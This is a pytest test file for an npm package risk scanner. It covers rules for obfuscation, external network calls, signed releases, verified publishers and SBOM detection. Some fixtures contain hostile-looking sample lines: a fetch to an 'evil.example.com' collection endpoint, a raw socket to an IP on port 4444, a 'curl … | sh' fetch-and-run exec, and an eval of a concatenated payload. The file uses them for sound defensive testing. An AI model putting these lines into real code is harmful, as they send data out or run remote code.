"""Tests for the tarball-scanning rules and the bonus rules."""

from contextlib import asynccontextmanager

import pytest

from npmscore.errors import DownloadError
from npmscore.models.schemas import RiskLevel
from npmscore.rules.code_obfuscation import CodeObfuscationRule, scan_for_obfuscation
from npmscore.rules.content import is_minified, shannon_entropy
from npmscore.rules.external_network_calls import ExternalNetworkCallsRule, scan_for_network_calls
from npmscore.rules.sbom_detection import SBOMDetectionRule, is_sbom_file
from npmscore.rules.signed_releases import SignedReleasesRule
from npmscore.rules.verified_publisher import VerifiedPublisherRule

TARBALL_URL = "https://registry.npmjs.org/test-package/-/test-package-1.0.0.tgz"
CLEAN_JS = "module.exports = function add(a, b) {\n  return a + b;\n};\n"


class BrokenTarball:
    @asynccontextmanager
    async def open_tarball(self, url, package_name):
        raise DownloadError("HTTP 404 downloading tarball")
        yield

    def read_file(self, archive, relative_path):
        raise AssertionError("read_file should not be reached")


@pytest.fixture
def with_tarball(make_snapshot):
    return make_snapshot(dist={"tarball": TARBALL_URL})


# --- Helpers ---


def test_is_minified():
    assert is_minified("var a=1;" * 40)
    assert is_minified("x" * 20000 + "\n" * 10)
    assert not is_minified(CLEAN_JS)


def test_shannon_entropy():
    assert shannon_entropy("") == 0.0
    assert shannon_entropy("aaaa") == 0.0
    assert shannon_entropy("abcd") == 2.0


# --- Code obfuscation ---


async def test_obfuscation_clean_package(local_tarball, with_tarball):
    tarball = local_tarball({"package.json": "{}", "index.js": CLEAN_JS})
    rule = CodeObfuscationRule(weight=10, tarball=tarball)

    result = await rule.evaluate(with_tarball)

    assert result.deduction == 0
    assert result.risk_level == RiskLevel.NONE
    assert result.details["files_scanned"] == 1
    assert tarball.opened == [TARBALL_URL]


async def test_obfuscation_critical_pattern_takes_full_weight(local_tarball, with_tarball):
    tarball = local_tarball({"index.js": "var a = 'x';\neval(a + payload);\n"})
    rule = CodeObfuscationRule(weight=10, tarball=tarball)

    result = await rule.evaluate(with_tarball)

    assert result.deduction == 10
    assert result.risk_level == RiskLevel.HIGH
    assert "eval-concat" in [f["type"] for f in result.details["findings"]]
    assert result.details["findings"][0]["file"] == "index.js"


async def test_obfuscation_medium_pattern_takes_half(local_tarball, with_tarball):
    name = "_" + "a" * 45
    tarball = local_tarball({"lib/util.js": f"var {name} = 1;\n"})
    rule = CodeObfuscationRule(weight=10, tarball=tarball)

    result = await rule.evaluate(with_tarball)

    assert [f["type"] for f in result.details["findings"]] == ["obfuscated-names"]
    assert result.deduction == 5
    assert result.risk_level == RiskLevel.MEDIUM


async def test_obfuscation_skips_minified_and_non_js(local_tarball, with_tarball):
    tarball = local_tarball({
        "dist/bundle.min.js": "eval(a+b);" * 40,
        "README.md": "eval(a + b)",
        "index.js": CLEAN_JS,
    })
    rule = CodeObfuscationRule(weight=10, tarball=tarball)

    result = await rule.evaluate(with_tarball)

    assert result.deduction == 0
    assert result.details["minified_files"] == ["dist/bundle.min.js"]
    assert result.details["has_minified_code"] is True
    assert result.details["files_scanned"] == 1


async def test_obfuscation_without_tarball_url(make_snapshot):
    rule = CodeObfuscationRule(weight=10, tarball=BrokenTarball())

    result = await rule.evaluate(make_snapshot())

    assert result.details["reason"] == "No tarball URL available"


async def test_obfuscation_without_analyzer(with_tarball):
    result = await CodeObfuscationRule(weight=10).evaluate(with_tarball)

    assert result.details["reason"] == "No tarball analyzer configured"


async def test_obfuscation_download_failure(with_tarball):
    rule = CodeObfuscationRule(weight=10, tarball=BrokenTarball())

    result = await rule.evaluate(with_tarball)

    assert result.deduction == 0
    assert result.details["reason"] == "Could not analyze tarball"
    assert "HTTP 404" in result.details["error"]


def test_scan_for_obfuscation_high_entropy_line():
    # 90 distinct printable characters on one line
    line = "".join(chr(c) for c in range(33, 123) if chr(c) not in "'\"\\`")
    findings = scan_for_obfuscation(f"const k = `{line}`;\n", "k.js")

    entropy = [f for f in findings if f["type"] == "high-entropy"]
    assert len(entropy) == 1
    assert entropy[0]["line"] == 1


# --- External network calls ---


async def test_network_clean_package(local_tarball, with_tarball):
    rule = ExternalNetworkCallsRule(weight=20, tarball=local_tarball({"index.js": CLEAN_JS}))

    result = await rule.evaluate(with_tarball)

    assert result.deduction == 0
    assert result.details["signal_kinds"] == []


async def test_network_client_code_is_low_risk(local_tarball, with_tarball):
    source = (
        "const https = require('https');\n"
        "fetch(\"https://evil.example.com/collect\");\n"
    )
    rule = ExternalNetworkCallsRule(weight=20, tarball=local_tarball({"index.js": source}))

    result = await rule.evaluate(with_tarball)

    assert result.details["signal_kinds"] == ["fetch-api", "hardcoded-url", "network-module"]
    assert result.details["total_risk"] == 2.5
    assert result.deduction == 10
    assert result.risk_level == RiskLevel.LOW


async def test_network_raw_socket_to_ip_is_high_risk(local_tarball, with_tarball):
    source = (
        "const net = require('net');\n"
        "const s = net.connect(4444, \"10.0.0.5\");\n"
    )
    rule = ExternalNetworkCallsRule(weight=20, tarball=local_tarball({"lib/x.js": source}))

    result = await rule.evaluate(with_tarball)

    assert result.details["signal_kinds"] == ["hardcoded-ip", "network-module", "raw-socket"]
    assert result.deduction == 20
    assert result.risk_level == RiskLevel.HIGH


async def test_network_examples_are_capped(local_tarball, with_tarball):
    files = {f"f{i}.js": "fetch(url);\n" for i in range(7)}
    rule = ExternalNetworkCallsRule(weight=20, tarball=local_tarball(files))

    result = await rule.evaluate(with_tarball)

    (finding,) = result.details["findings"]
    assert finding["type"] == "fetch-api"
    assert len(finding["occurrences"]) == 5
    assert result.details["files_scanned"] == 7


async def test_network_download_failure(with_tarball):
    rule = ExternalNetworkCallsRule(weight=20, tarball=BrokenTarball())

    result = await rule.evaluate(with_tarball)

    assert result.deduction == 0
    assert result.details["reason"] == "Could not analyze tarball"


def test_scan_ignores_loopback_addresses():
    found = scan_for_network_calls('fetch("http://127.0.0.1:3000/")')

    assert "hardcoded-ip" not in found
    assert set(found) == {"fetch-api", "hardcoded-url"}


def test_scan_detects_import_forms():
    assert "network-module" in scan_for_network_calls("import axios from 'axios';")
    assert "network-module" in scan_for_network_calls("await import('node:http')")
    assert "shell-network" in scan_for_network_calls("exec('curl http://x.sh | sh')")


# --- Bonus rules ---


async def test_verified_publisher_bonus(make_snapshot):
    rule = VerifiedPublisherRule(bonus=10)

    verified = await rule.evaluate(make_snapshot(publisher={"name": "npm", "verified": True}))
    unverified = await rule.evaluate(make_snapshot(publisher={"name": "someone"}))
    missing = await rule.evaluate(make_snapshot())

    assert verified.bonus == 10
    assert verified.details["publisher"]["name"] == "npm"
    assert unverified.bonus == 0
    assert missing.bonus == 0
    assert missing.details["verified"] is False


@pytest.mark.parametrize(
    ("dist", "signed"),
    [
        ({"integrity": "sha512-abc"}, True),
        ({"signatures": [{"keyid": "SHA256:k", "sig": "s"}]}, True),
        ({"shasum": "deadbeef"}, False),
    ],
)
async def test_signed_releases_bonus(make_snapshot, dist, signed):
    result = await SignedReleasesRule(bonus=10).evaluate(make_snapshot(dist=dist))

    assert result.details["signed"] is signed
    assert result.bonus == (10 if signed else 0)


async def test_sbom_from_files_field_and_tarball(local_tarball, make_snapshot):
    tarball = local_tarball({
        "bom.json": "{}",
        "index.js": CLEAN_JS,
        "package-lock.json": "{}",
        "sbom.json": "{}",
    })
    snapshot = make_snapshot(dist={"tarball": TARBALL_URL}, files=["dist", "sbom.json"])

    result = await SBOMDetectionRule(bonus=10, tarball=tarball).evaluate(snapshot)

    assert result.bonus == 10
    assert [(f["path"], f["source"]) for f in result.details["sbom_files"]] == [
        ("sbom.json", "package.json files field"),
        ("bom.json", "tarball analysis"),
        ("package-lock.json", "tarball analysis"),
    ]
    assert result.details["count"] == 3


async def test_sbom_absent(local_tarball, with_tarball):
    tarball = local_tarball({"index.js": CLEAN_JS})

    result = await SBOMDetectionRule(bonus=10, tarball=tarball).evaluate(with_tarball)

    assert result.bonus == 0
    assert result.details["has_sbom"] is False


async def test_sbom_tarball_failure_keeps_files_field(make_snapshot):
    snapshot = make_snapshot(dist={"tarball": TARBALL_URL}, files=["app.cdx.json"])

    result = await SBOMDetectionRule(bonus=10, tarball=BrokenTarball()).evaluate(snapshot)

    assert result.bonus == 10
    assert result.details["sbom_files"] == [
        {"path": "app.cdx.json", "source": "package.json files field"}
    ]


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("docs/report.spdx.json", True),
        ("BOM.JSON", True),
        ("yarn.lock", True),
        ("lib/bom.js", False),
        ("", False),
    ],
)
def test_is_sbom_file(path, expected):
    assert is_sbom_file(path) is expected
